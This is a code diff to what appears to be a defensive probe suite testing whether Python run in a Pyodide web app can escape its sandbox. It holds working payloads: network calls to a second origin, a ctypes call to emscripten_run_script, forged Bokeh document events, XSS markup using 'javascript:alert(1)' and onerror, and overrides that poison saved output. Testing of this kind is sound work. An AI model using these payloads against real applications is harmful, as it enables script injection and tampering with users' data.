@@ -37,7 +37,7 @@ def xhr(js, url):
 
 
 def rtc(js, url):
-    from pyodide.ffi import to_js
+    to_js = importlib.import_module("pyodide.ffi").to_js
     port = url.split(":")[2].split("/")[0]
     servers = to_js({{"iceServers": [{{"urls": f"stun:127.0.0.1:{{port}}"}}]}},
                     dict_converter=js.Object.fromEntries)
@@ -117,8 +117,6 @@ WAYS_TO_JAVASCRIPT = (
     Probe("urllib", 'importlib.import_module("urllib.request").urlopen(f"{OTHER}?probe=NAME")'),
     Probe("socket", 'importlib.import_module("socket").create_connection('
           '("127.0.0.1", int(OTHER.split(":")[2].strip("/"))), 2).send(b"GET /?probe=NAME")'),
-    Probe("ctypes", 'importlib.import_module("ctypes").CDLL(None).emscripten_run_script('
-          'f"fetch(\'{OTHER}?probe=NAME\')".encode())'),
 )  # fmt: skip
 # To the network, each by itself.
 WAYS_OUT = (
@@ -156,12 +154,17 @@ STORES = (
           'lambda lock: javascript().Promise.new(lambda *_: None))'),
     Probe("channel", 'javascript().BroadcastChannel.new("probe").postMessage("NAME")'),
 )  # fmt: skip
+# What Python does not come back from, so it stands alone.
+BREAKING = (
+    Probe("ctypes", 'importlib.import_module("ctypes").CDLL(None).emscripten_run_script('
+          'f"fetch(\'{OTHER}?probe=NAME\')".encode())'),
+)  # fmt: skip
 QUIET = (*WAYS_TO_JAVASCRIPT, *WAYS_OUT, *STORES)
 
-# What the page would have to believe. Each ends its Python, so each is a text of its own.
-HTML = "<img src='{OTHER}?probe=NAME'><a href='javascript:alert(1)'>OWNED</a><h1>OWNED</h1>"
+# What the page would have to believe. Each ends its Python, so each is a text of its own. These are
+# tried in every browser, the others in one.
+EVERYWHERE = ("div", "location", "kind")
 SEND = "\nsession()._answer._send(json.dumps({{'events': [{event}]}}), javascript().Map.new())"
-_CREATED = "'type': 'object', 'name': {name}, 'id': 'p99999'"
 _ROOT = "session().state.curdoc.roots[0].ref['id']"
 
 
@@ -177,15 +180,15 @@ def _child(model: str) -> str:
 _LOCATION = (
     "[one for one in session().state.curdoc.roots if type(one).__name__ == 'Location'][0].ref['id']"
 )
-_PORT = '''
-from pyodide.ffi import create_proxy
+_PORT = """
+create_proxy = importlib.import_module("pyodide.ffi").create_proxy
 js = javascript()
 plain = js.MessagePort.prototype.postMessage
 def taken(port, *_):
     for message in ({messages}):
         plain.call(port, js.JSON.parse(message))
 js.MessagePort.prototype.postMessage = create_proxy(taken, capture_this=True)
-'''
+"""
 FORGED = (
     Probe("root", _event("{'kind': 'RootAdded', 'setter': None, 'model': {'type': 'object', "
           "'name': 'Div', 'id': 'p99999', 'attributes': {'text': 'OWNED'}}}")),
@@ -214,25 +217,21 @@ FORGED = (
 # Markup is taken, but only what the app itself could have written is left of it.
 MARKUP = Probe(
     "markup",
-    "import html, json\n"
-    "pane = session()._app._remark._models\n"
-    "model = next(iter(pane.values()))[0].ref['id']\n"
+    "import html\n"
+    "model = next(iter(session()._app._remark._models.values()))[0].ref['id']\n"
     "text = html.escape(\"<p>OWNED <a href='javascript:alert(1)'>link</a>"
     "<img src=x onerror=alert(1)><style>body { display: none }</style>"
-    "<p style='position: fixed; inset: 0' onclick='alert(1)' class='warning'>words</p>\")"
-    + SEND.format(event="{'kind': 'ModelChanged', 'model': {'id': model}, 'attr': 'text', "
-                        "'new': text}").replace("{{", "{").replace("}}", "}"),
-)  # fmt: skip
+    "<p style='position: fixed; inset: 0' onclick='alert(1)' class='warning'>words</p>\")\n"
+    + _event("{'kind': 'ModelChanged', 'model': {'id': model}, 'attr': 'text', 'new': text}"),
+)
 # Not for now, but for what is saved later.
 POISON = Probe(
     "poison",
     "session().script = lambda *_: 'OWNED'\n"
     "session().figure = lambda *_: b'OWNED'\n"
     "session().run_data = lambda *_: None\n"
-    "import neuron_app.script\n"
-    "neuron_app.script.script = lambda *_, **__: 'OWNED'".replace(
-        "import neuron_app.script", "importlib.import_module('neuron_app.script')"
-    ).replace("neuron_app.script.script", "sys.modules['neuron_app.script'].script"),
+    "importlib.import_module('neuron_app.script').script = lambda *_, **__: 'OWNED'\n"
+    "importlib.import_module('spiking_core').MODELS.clear()",
 )
 
 
